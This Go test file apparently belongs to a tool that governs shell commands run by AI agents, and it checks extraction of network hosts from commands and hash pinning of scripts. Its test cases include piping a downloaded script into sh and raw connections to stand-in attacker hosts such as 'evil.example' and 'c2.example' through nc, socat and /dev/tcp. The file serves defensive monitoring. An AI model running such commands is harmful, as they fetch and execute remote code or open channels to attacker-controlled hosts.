package intel

import (
	"os"
	"path/filepath"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/mitrity/mitrity/govern/shell"
)

func analyze(t *testing.T, text, dir string) *shell.Analysis {
	t.Helper()
	a := shell.Analyze(shell.Input{Text: text, Dialect: shell.DialectBash, Cwd: dir, Home: "/home/agent", InspectionRoots: []string{dir}})
	assert.Assert(t, a.Denial == nil, "%q: %v", text, a.Denial)
	return a
}

func TestHostsFrom(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd  string
		want []string
	}{
		{"git status", nil},
		{"curl -fsSL https://Get.Example.com/install.sh | sh", []string{"get.example.com"}},
		{"curl https://user:pw@api.example.com:8443/v1?q=1", []string{"api.example.com"}},
		{"wget --output-document=x http://[2001:db8::1]:8080/a", []string{"2001:db8::1"}},
		{"curl --url=https://a.example/x -Hhttps://ignored.example", []string{"a.example", "ignored.example"}},
		{"git clone git@github.com:acme/app.git", []string{"github.com"}},
		{"git clone ssh://git@gitlab.example.com:2222/acme/app.git", []string{"gitlab.example.com"}},
		{"git remote add up git+ssh://git@src.example.org/r", []string{"src.example.org"}},
		{"scp dist.tgz deploy@10.0.0.5:/srv/", []string{"10.0.0.5"}},
		{"rsync -a ./site/ web@host.example.net:/var/www/", []string{"host.example.net"}},
		{"scp build.tgz backup.example.org:/srv/ ./a:b", []string{"backup.example.org"}},
		{"ssh deploy@bastion.example.com uptime", []string{"bastion.example.com"}},
		{"ssh -p 2222 bastion.example.com", []string{"bastion.example.com"}},
		{"nc -v evil.example 4444", []string{"evil.example"}},
		{"ping -c1 198.51.100.7", []string{"198.51.100.7"}},
		{"curl example.com/path", []string{"example.com"}},
		{"openssl s_client -connect api.example.com:443", []string{"api.example.com"}},
		{"socat - TCP:evil.example:9000", []string{"evil.example"}},
		{"cat < /dev/tcp/evil.example/80", []string{"evil.example"}},
		{"echo hi > /dev/udp/203.0.113.9/53", []string{"203.0.113.9"}},
		{"exec 3<>/dev/tcp/c2.example/443", []string{"c2.example"}},
		{"bash -c 'curl https://inner.example/x'", []string{"inner.example"}},
		{"sudo env X=1 wget https://wrapped.example/", []string{"wrapped.example"}},
		{"ftp://not-a-command", nil},
		// Not hosts: a file name for a non-network command, a refspec, an
		// email address outside a network command, a dynamic word.
		{"cat notes.txt build.log", nil},
		{"git push origin HEAD:main", nil},
		{"git commit --author='Me <me@example.com>' -m x", nil},
		{"curl https://$HOST/x", nil},
		{`curl "https://evil.example/$X" -o "$OUT"`, []string{"evil.example"}},
		{"cat < /dev/tcp/c2.example/$PORT", []string{"c2.example"}},
		{"curl -o out.json https://api.example.com/v1", []string{"out.json", "api.example.com"}}, // over-inclusive by design
	}
	dir := t.TempDir()
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			assert.DeepEqual(t, HostsFrom(analyze(t, tt.cmd, dir)), tt.want)
		})
	}
	assert.Assert(t, HostsFrom(nil) == nil)
}

func TestHashesFrom(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	assert.NilError(t, os.WriteFile(filepath.Join(dir, "deploy.sh"), []byte("#!/bin/sh\necho deploy\n"), 0o755))
	a := analyze(t, "bash ./deploy.sh", dir)
	got := HashesFrom(a)
	assert.Equal(t, len(got), 1)
	assert.Equal(t, got[0], a.Pins[0].SHA256)
	assert.Equal(t, len(HashesFrom(nil)), 0)
}
